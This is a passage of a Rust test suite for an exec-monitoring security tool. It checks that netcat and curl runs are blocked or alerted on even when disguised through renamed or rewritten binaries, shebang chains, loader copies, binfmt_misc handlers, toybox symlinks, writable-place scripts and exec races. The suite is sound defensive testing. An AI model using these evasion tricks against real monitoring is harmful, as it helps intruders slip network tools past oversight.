        nc -znv 127.0.0.1 1 2>/dev/null; echo self-probe=$?
        nc -zv 192.0.2.1 80 2>/dev/null; echo scan=$?
        nc -w1 -s 127.0.0.1 192.0.2.1 80 2>/dev/null; echo source=$?
        curl -s --connect-timeout 1 -H 'Host: localhost' 'http://192.0.2.1/?q=127.0.0.1'; echo header=$?
        curl -s 'http://[::1]:9/healthz'; echo ipv6-probe=$?
    "#;
    let run = sh("enforce", &scratch, script);
    let out = run.stdout();
    for expected in ["self-probe=1", "scan=126", "source=126", "ipv6-probe=7"] {
        assert!(out.contains(expected), "missing {expected:?} in:\n{out}\nstderr:\n{}", run.stderr());
    }
    assert!(!out.contains("header=126"), "curl is alerted, not blocked: {out}");
    let rule_of = |args: &str| {
        let alert = run.alerts.iter().find(|a| a["process"]["args"].to_string().contains(args));
        alert.map(|a| {
            (a["decision"].as_str().unwrap_or("").to_string(), a["rule"]["id"].as_str().unwrap_or("").to_string())
        })
    };
    assert_eq!(rule_of("\"-zv\""), Some(("block".into(), "execguard.netcat_port_scan".into())), "{:#?}", run.alerts);
    assert_eq!(rule_of("\"-s\""), Some(("block".into(), "falco.launch_suspicious_network_tool".into())));
    assert_eq!(rule_of("Host: localhost"), Some(("alert".into(), "datadog.net_util_in_container".into())));
    assert_eq!(rule_of("-znv"), None, "the self-probe is not reported");
    assert_eq!(rule_of("[::1]"), None, "neither is the IPv6 health check");
}

/// A file rewritten in place with netcat's bytes, its mtime set back, is decided afresh:
/// verdicts are cached by a key that holds the ctime, which its owner cannot set.
#[test]
fn a_file_rewritten_in_place_is_not_judged_by_its_old_verdict() {
    let scratch = Scratch::new();
    let script = format!(
        r#"
        size=$(stat -c %s {NC})
        {{ printf '#!/bin/true\n'; head -c $((size - 12)) /dev/zero | tr '\0' '#'; }} > x
        chmod +x x && touch -d @1000000000 x
        ./x; echo first=$?
        cat {NC} > x && touch -d @1000000000 x
        stat -c %Y x
        ./x -w1 192.0.2.1 9; echo second=$?
    "#
    );
    let run = sh("enforce", &scratch, &script);
    let out = run.stdout();
    assert!(out.contains("first=0\n1000000000\n"), "{out}\n{}", run.stderr());
    assert!(out.contains("second=126"), "the rewritten file ran:\n{out}\n{}", run.stderr());
    let alert = run.alerts.iter().find(|a| a["decision"] == "block").expect("a block");
    assert_eq!(alert["execguard"]["file"]["identity"], "nc", "{alert:#}");
}

/// What runs inside one execve is what is decided: the interpreter of a `#!` line (nested
/// too), the program a copy of the loader loads; and `ldd`, which runs nothing, runs.
#[test]
fn interpreter_lines_and_loaders_are_decided_as_what_they_run() {
    let loader = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-x86-64.so.2"]
        .into_iter()
        .find(|path| std::path::Path::new(path).exists())
        .expect("glibc's dynamic loader");
    let scratch = Scratch::new();
    let script = format!(
        r#"
        printf '#!{NC} -w1\n' > s && chmod +x s
        ./s 192.0.2.1 9; echo shebang=$?
        printf '#!%s/s\n' "$PWD" > t && chmod +x t
        ./t 192.0.2.1 9; echo nested=$?
        printf '#!/bin/cat\nhello\n' > c && chmod +x c
        ./c >/dev/null; echo harmless=$?
        cp {loader} ./myld && ./myld {NC} -w1 192.0.2.1 9; echo loader-copy=$?
        ldd {NC} >/dev/null; echo ldd=$?
    "#
    );
    let run = sh("enforce", &scratch, &script);
    let out = run.stdout();
    for expected in ["shebang=126", "nested=126", "harmless=0", "loader-copy=126", "ldd=0"] {
        assert!(out.contains(expected), "missing {expected:?} in:\n{out}\nstderr:\n{}", run.stderr());
    }
    let scripts_of = |path: &str| {
        run.alerts.iter().find(|a| {
            a["execguard"]["scripts"]
                .as_array()
                .is_some_and(|s| s.last().is_some_and(|last| last.as_str() == Some(path)))
                || a["execguard"]["scripts"][0] == path
        })
    };
    let s = scratch.path("s").display().to_string();
    let t = scratch.path("t").display().to_string();
    let shebang = scripts_of(&s).expect("an alert for ./s");
    assert_eq!(shebang["process"]["executable"], NC, "{shebang:#}");
    assert_eq!(shebang["process"]["args"][1], "-w1", "the line's argument: {shebang:#}");
    let nested = run.alerts.iter().find(|a| a["execguard"]["scripts"] == serde_json::json!([t, s])).expect("nested");
    assert_eq!(nested["process"]["name"], "nc", "{nested:#}");
    let copy = run.alerts.iter().find(|a| a["process"]["executable"] == scratch.path("myld").display().to_string());
    assert_eq!(copy.expect("the loader copy")["execguard"]["file"]["identity"], "nc");
    assert!(!run.alerts.iter().any(|a| a["execguard"]["loader_lists_only"] == true), "ldd is not reported");
}

/// A binfmt_misc handler registered for the test (a magic no other file has): the kernel
/// runs its interpreter for a file that starts with the magic, and so is it decided.
#[test]
fn binfmt_misc_interpreters_are_decided_as_what_they_run() {
    // SAFETY: geteuid has no preconditions.
    assert_eq!(unsafe { libc::geteuid() }, 0, "this test needs root to register a binfmt_misc handler");
    let dir = std::path::Path::new("/proc/sys/fs/binfmt_misc");
    let mounted_here = !dir.join("register").exists();
    if mounted_here {
        let status = Command::new("mount").args(["-t", "binfmt_misc", "binfmt_misc"]).arg(dir).status();
        assert!(status.is_ok_and(|s| s.success()), "cannot mount binfmt_misc");
    }
    struct Registered(PathBuf, bool);
    impl Drop for Registered {
        fn drop(&mut self) {
            let _ = std::fs::write(&self.0, "-1");
            if self.1 {
                let _ = Command::new("umount").arg("/proc/sys/fs/binfmt_misc").status();
            }
        }
    }
    let name = format!("execguard-test-{}", std::process::id());
    std::fs::write(dir.join("register"), format!(":{name}:M::EGBINFMT::{NC}:")).expect("register a handler");
    let _registered = Registered(dir.join(&name), mounted_here);

    let scratch = Scratch::new();
    let script = "printf EGBINFMT > m && chmod +x m; ./m -w1 192.0.2.1 9; echo misc=$?";
    let run = sh("enforce", &scratch, script);
    assert!(run.stdout().contains("misc=126"), "{}\n{}", run.stdout(), run.stderr());
    let alert = run.alerts.iter().find(|a| a["process"]["executable"] == NC).expect("an alert for nc");
    assert_eq!(alert["execguard"]["scripts"], serde_json::json!([scratch.path("m").display().to_string()]));
    assert_eq!(alert["process"]["args"], serde_json::json!([NC, "./m", "-w1", "192.0.2.1", "9"]), "{alert:#}");
}

/// "Started by a script in a writable place" holds however the script is named, fed or
/// sourced, and at any depth: the supervisor carries the fact down the lineage.
#[test]
fn a_writable_script_is_found_however_it_is_named_fed_or_sourced_and_at_any_depth() {
    let scratch = Scratch::new();
    // A place no rule counts as writable (unless the target dir itself is in one).
    let elsewhere = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(format!("lineage-{}", std::process::id()));
    std::fs::create_dir_all(&elsewhere).unwrap();
    let relay = elsewhere.join("relay.sh");
    let curl = "curl -s --connect-timeout 1 http://192.0.2.1:9/";
    std::fs::write(
        &relay,
        format!("if [ \"$1\" -gt 0 ]; then sh \"$0\" $(($1 - 1)) \"$2\"; else {curl}; echo \"$2=$?\"; fi\n"),
    )
    .unwrap();
    let link = elsewhere.join("link.sh");
    let _ = std::fs::remove_file(&link);
    std::os::unix::fs::symlink(scratch.path("drop.sh"), &link).unwrap();
    let script = format!(
        r#"
        printf '{curl}; echo "${{1:-$label}}=$?"\n' > drop.sh
        printf 'sh {relay} 25 deep\n' > deep.sh
        sh /$PWD/drop.sh slashes
        sh /.$PWD/drop.sh dots
        sh {link} symlink
        label=stdin sh < drop.sh
        sh -c 'label=sourced; . ./drop.sh'
        sh deep.sh
        {curl}; echo "clean=$?"
    "#,
        relay = relay.display(),
        link = link.display()
    );
    let run = sh("enforce", &scratch, &script);
    let out = run.stdout();
    for expected in ["slashes=126", "dots=126", "symlink=126", "stdin=126", "sourced=126", "deep=126"] {
        assert!(out.contains(expected), "missing {expected:?} in:\n{out}\nstderr:\n{}", run.stderr());
    }
    assert!(!out.contains("clean=126"), "curl from the test's own shell is only alerted:\n{out}");
    let blocks: Vec<&Value> = run.alerts.iter().filter(|a| a["decision"] == "block").collect();
    // dash tries each PATH entry that has curl (/usr/bin and /bin): one block per try.
    assert!(blocks.len() >= 6, "{:#?}", run.alerts);
    for block in blocks {
        assert_eq!(block["rule"]["id"], "datadog.net_util_in_container.writable_ancestor", "{block:#}");
        // The script named (drop.sh, deep.sh), or, where the target dir is itself in a
        // writable place, the relay scripts there.
        let why = block["execguard"]["writable_lineage"].as_str().unwrap_or("");
        assert!(why.contains(".sh"), "{block:#}");
    }
    let _ = std::fs::remove_dir_all(elsewhere);
}

/// The files the supervisor recognises under any name are those of the names the loaded
/// policy matches: a policy that names a tool of its own has copies of it recognised.
#[test]
fn the_tools_recognised_by_file_are_the_ones_the_policy_names() {
    let scratch = Scratch::new();
    let policy = scratch.path("policy.toml");
    std::fs::write(
        &policy,
        "mode = \"enforce\"\n[[rules]]\nid = \"t.no_true\"\nname = \"no true\"\ndescription = \"d\"\nseverity = \"low\"\naction = \"block\"\nwhen.name = [\"true\"]\n",
    )
    .unwrap();
    let policy = policy.display().to_string();
    let run = sh_with(
        &["--policy", &policy],
        &scratch,
        "cp /bin/true ./renamed && ./renamed; echo renamed=$?; ls >/dev/null; echo ls=$?",
    );
    let out = run.stdout();
    assert!(out.contains("renamed=126") && out.contains("ls=0"), "{out}\n{}", run.stderr());
    assert_eq!(run.alerts.first().map(|a| a["execguard"]["file"]["identity"].clone()), Some("true".into()));
}

/// toybox as its dispatcher runs it: argv[0]'s name, `toybox APPLET`, and, when argv[0]'s
/// name is no applet, the names along argv[0]'s symlinks.
#[test]
fn toybox_applets_are_decided_as_the_applet_that_runs() {
    let toybox = "/usr/bin/toybox";
    assert!(std::path::Path::new(toybox).exists(), "needs Debian's toybox (scripts/test installs it)");
    let scratch = Scratch::new();
    let script = format!(
        r#"
        mkdir bin && ln -s {toybox} bin/ls && ln -s {toybox} bin/nc && ln -s nc bin/zz
        bin/ls / >/dev/null; echo ls=$?
        bin/nc -w1 192.0.2.1 9; echo nc=$?
        {toybox} nc -w1 192.0.2.1 9; echo toybox-nc=$?
        bin/zz -w1 192.0.2.1 9; echo link=$?
    "#
    );
    let run = sh("enforce", &scratch, &script);
    let out = run.stdout();
    for expected in ["ls=0", "nc=126", "toybox-nc=126", "link=126"] {
        assert!(out.contains(expected), "missing {expected:?} in:\n{out}\nstderr:\n{}", run.stderr());
    }
    assert!(run.alerts.iter().all(|a| a["process"]["name"] == "nc" && a["execguard"]["file"]["identity"] == "toybox"));
}

/// A listener on loopback that counts the connections it accepts, until dropped.
struct CountingListener {
    port: u16,
    accepted: std::sync::Arc<AtomicUsize>,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl CountingListener {
    fn new() -> CountingListener {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a loopback listener");
        listener.set_nonblocking(true).expect("non-blocking");
        let port = listener.local_addr().expect("its address").port();
        let accepted = std::sync::Arc::new(AtomicUsize::new(0));
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let (count, done) = (accepted.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            while !done.load(Ordering::Relaxed) {
                match listener.accept() {
                    Ok(_) => drop(count.fetch_add(1, Ordering::Relaxed)),
                    Err(_) => std::thread::sleep(Duration::from_millis(1)),
                }
            }
        });
        CountingListener { port, accepted, stop, thread: Some(thread) }
    }

    fn accepted(&mut self) -> usize {
        // Connections that were on their way when the run ended get a moment to arrive.
        std::thread::sleep(Duration::from_millis(200));
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
        self.accepted.load(Ordering::Relaxed)
    }
}

/// Enforce mode's socket gate closes the CONTINUE race: a partner that flips the path (a
/// thread, or a child sharing the memory), swaps the file (a symlink exchanged by
/// rename), or flips argv between an allowed and a blocked form
/// wins at the exec now and then, but what runs is checked again at its first network
/// socket, from state the kernel owns, and killed. No connection ever reaches the listener.
#[test]
fn a_raced_exec_never_reaches_the_network() {
    let scratch = Scratch::new();
    let race = compile(&scratch, "exec_race");
    let policy = scratch.path("policy.toml");
    std::fs::write(
        &policy,
        "mode = \"enforce\"\n[[rules]]\nid = \"t.no_netcat\"\nname = \"no netcat\"\ndescription = \"netcat ran\"\n\
         severity = \"high\"\naction = \"block\"\nwhen.name = [\"nc\", \"nc.*\"]\n  [[rules.exceptions]]\n  \
         name = \"help\"\n  when.args_any = [\"-h\"]\n",
    )
    .unwrap();
    let policy = policy.display().to_string();
    let attempts = "3000";
    let mut listener = CountingListener::new();
    let port = listener.port.to_string();
    let race = race.as_os_str();
    let runs: [(&str, Vec<&str>); 4] = [
        ("thread", vec!["thread", attempts, "/bin/true", NC, "nc", "127.0.0.1", &port]),
        ("swap", vec!["swap", attempts, "/bin/true", NC, "nc", "127.0.0.1", &port]),
        ("clone-vm", vec!["clone-vm", attempts, "/bin/true", NC, "nc", "127.0.0.1", &port]),
        ("argv", vec!["argv", attempts, "-h", "-v", NC, "nc", "127.0.0.1", &port]),
    ];
    let mut report = Vec::new();
    for (kind, args) in runs {
        let mut command = vec![race];
        command.extend(args.iter().map(OsStr::new));
        let run = guarded_with(&["--policy", &policy], &scratch, &command, None);
        assert!(run.stdout().contains(&format!("attempts={attempts}")), "{kind}: {}\n{}", run.stdout(), run.stderr());
        let won = run.alerts.iter().filter(|a| a["execguard"]["exec_race"].is_string()).count();
        let blocked_at_exec = run.alerts.iter().filter(|a| !a["execguard"]["exec_race"].is_string()).count();
        report.push(format!("{kind}: {attempts} attempts, {blocked_at_exec} blocked at the exec, {won} won the exec race and were stopped at their socket"));
        for alert in run.alerts.iter().filter(|a| a["execguard"]["exec_race"].is_string()) {
            assert_eq!(alert["decision"], "block", "{alert:#}");
            assert_eq!(alert["process"]["executable"], NC, "the record says what ran: {alert:#}");
        }
    }
    eprintln!("{}", report.join("\n"));
    assert_eq!(listener.accepted(), 0, "a raced netcat connected:\n{}", report.join("\n"));
}

/// The gate leaves ordinary network use alone: a loopback HTTP server and its clients,
/// a name lookup through glibc, a connection held open.
#[test]
fn the_socket_gate_lets_ordinary_servers_and_clients_work() {
    let scratch = Scratch::new();
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let script = format!(
        r#"
        python3 -m http.server --bind 127.0.0.1 {port} >/dev/null 2>&1 &
        server=$!
        for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:{port}/ && break; sleep 0.1; done
        curl -s http://127.0.0.1:{port}/ | grep -q 'Directory listing' && echo http=ok
        curl -s http://127.0.0.1:{port}/ -o /dev/null && echo again=ok
        getent ahosts localhost >/dev/null && echo lookup=ok
        python3 -c 'import socket,time; s=socket.create_connection(("127.0.0.1",{port})); time.sleep(1); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); print("held=ok" if s.recv(12).startswith(b"HTTP") else "held=no")'
        kill $server
    "#
    );
    let run = sh("enforce", &scratch, &script);
    let out = run.stdout();
    for expected in ["http=ok", "again=ok", "lookup=ok", "held=ok"] {
        assert!(out.contains(expected), "missing {expected:?} in:\n{out}\nstderr:\n{}", run.stderr());
    }
    assert!(run.alerts.iter().all(|a| a["decision"] != "block"), "{:#?}", run.alerts);
}

/// io_uring makes sockets without socket(): the gate refuses it, and reports it, unless
/// the command is let use it.
#[test]
fn io_uring_is_refused_under_the_gate_and_allowed_when_configured() {
    let scratch = Scratch::new();
    let program = compile(&scratch, "io_uring");
    let refused = guarded("enforce", &scratch, &[program.as_os_str()], None);
    assert!(refused.stdout().contains("io_uring=EPERM"), "{}\n{}", refused.stdout(), refused.stderr());
    assert!(refused.alerts.iter().any(|a| a["reason"].as_str().is_some_and(|r| r.contains("io_uring_setup refused"))));
    let allowed = guarded_with(&["--mode", "enforce", "--allow-io-uring"], &scratch, &[program.as_os_str()], None);
    assert!(allowed.stdout().contains("io_uring=ok"), "{}\n{}", allowed.stdout(), allowed.stderr());
    // Monitor mode has no gate.
    let monitor = guarded("monitor", &scratch, &[program.as_os_str()], None);
    assert!(monitor.stdout().contains("io_uring=ok"), "{}", monitor.stdout());
}
